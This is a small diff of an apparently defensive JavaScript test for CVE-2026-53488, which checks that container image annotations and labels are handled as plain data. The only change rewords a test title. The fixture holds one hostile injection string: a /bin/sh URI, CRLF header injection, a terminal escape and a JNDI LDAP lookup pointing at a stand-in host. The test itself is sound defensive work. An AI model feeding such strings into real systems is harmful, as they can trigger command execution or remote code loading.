@@ -35,7 +35,7 @@ describe('CVE-2026-53488: what an image says of itself is data', () => {
   const evil = 'binary:///bin/sh?cmd=evil\r\nX-Evil: 1\u001b[31m${jndi:ldap://evil}';
   const annotations = { [evil]: evil, 'io.containerd.logger': evil, 'org.opencontainers.image.source': evil };
 
-  test('in its annotations, its labels and the User-Agent of whoever pulls it', async () => {
+  test('in its annotations, its labels and the User-Agent of the client that pulls it', async () => {
     const config = blobOf(
       JSON.stringify({ config: { Labels: annotations } }),
       'application/vnd.oci.image.config.v1+json',
